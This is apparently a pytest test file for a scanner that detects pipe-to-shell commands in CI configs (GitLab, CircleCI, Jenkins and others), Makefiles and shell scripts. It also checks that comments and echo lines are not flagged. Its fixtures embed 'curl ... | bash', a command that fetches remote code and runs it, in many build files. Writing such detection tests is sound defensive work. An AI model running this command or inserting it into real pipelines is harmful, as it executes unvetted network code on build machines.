"""Scripts of other systems of continuous integration, of makefiles and of shells."""

from __future__ import annotations

import pytest

from weighbridge.core.finding import Action, GapKind
from workflows import look, said

PIPE = "curl -fsSL https://get.example.org/i.sh | bash"

ATTACKS = {
    ".gitlab-ci.yml": f"build:\n  script:\n    - make\n    - {PIPE}\n",
    ".circleci/config.yml": f"jobs:\n  a:\n    steps:\n      - run: {PIPE}\n      - run:\n          command: make\n",
    "azure-pipelines.yml": f"steps:\n  - script: |\n      make\n      {PIPE}\n",
    ".buildkite/pipeline.yml": f"steps:\n  - commands:\n      - {PIPE}\n",
    "bitbucket-pipelines.yml": f"pipelines:\n  default:\n    - step:\n        script:\n          - {PIPE}\n",
    "Jenkinsfile": f"pipeline {{ stages {{ stage('a') {{ steps {{\n  sh '''\n    make\n    {PIPE}\n  '''\n}} }} }} }}\n",
    "Makefile": f"all: x\n\t@{PIPE}\n",
    "scripts/setup.sh": f"#!/bin/bash\nset -eu\n{PIPE}\n",
    "source:setup.sh": f"{PIPE}\n",
}
BENIGN = {
    ".gitlab-ci.yml": f"# {PIPE}\nbuild:\n  description: '{PIPE}'\n  script:\n    - echo '{PIPE}'\n",
    ".circleci/config.yml": "jobs:\n  a:\n    steps:\n      - run: curl https://a.example | jq .\n",
    "azure-pipelines.yml": "steps:\n  - script: pip install -r requirements.txt\n",
    "Jenkinsfile": "echo 'curl https://a.example | sh'\nsh 'make test'\n",
    "Makefile": f"# {PIPE}\nVERSION := $(shell cat v)\nall:\n\techo $$HOME $(VERSION)\n",
    "setup.sh": f"cat <<'EOF'\n{PIPE}\nEOF\n",
    "notes.txt": PIPE,
}


@pytest.mark.parametrize("path", ATTACKS)
def test_a_script_is_found_in_its_place(path: str) -> None:
    findings, _ = look({path: ATTACKS[path]})
    (finding,) = [f for f in findings if f.action is Action.REVIEW]
    assert finding.check == "build-script"
    line = ATTACKS[path].split("\n")[(finding.at.line or 0) - 1]
    assert PIPE in line


@pytest.mark.parametrize("path", BENIGN)
def test_what_is_only_said_is_no_finding(path: str) -> None:
    assert said({path: BENIGN[path]}) == frozenset()


@pytest.mark.parametrize(
    ("path", "system"),
    [
        (".gitlab-ci.yml", "GitLab CI"),
        ("source:.circleci/config.yml", "CircleCI"),
        ("Jenkinsfile", "Jenkins"),
        (".travis.yml", "Travis CI"),
    ],
)
def test_who_can_start_another_system_is_not_known(path: str, system: str) -> None:
    _, gaps = look({path: "build:\n  script: [make]\n"})
    assert [g.message for g in gaps if g.message.startswith(system)]


@pytest.mark.parametrize(
    ("path", "data"),
    [
        (".gitlab-ci.yml", b"a: [\n"),
        (".gitlab-ci.yml", b"a: " + b"[" * 50_000),
        ("Jenkinsfile", b"sh '''\nmake\n"),
        ("a.sh", b"echo 'open\n"),
        ("a.sh", b"\xff\xfe\x00"),
        ("a.sh", b"x" * (5 << 20)),
        (".gitlab-ci.yml", b"a: " + b"x" * (2 << 20)),
    ],
)
def test_what_cannot_be_read_is_a_gap(path: str, data: bytes) -> None:
    _, gaps = look({path: data})
    assert {GapKind.MALFORMED, GapKind.TOO_LARGE} & {g.kind for g in gaps}
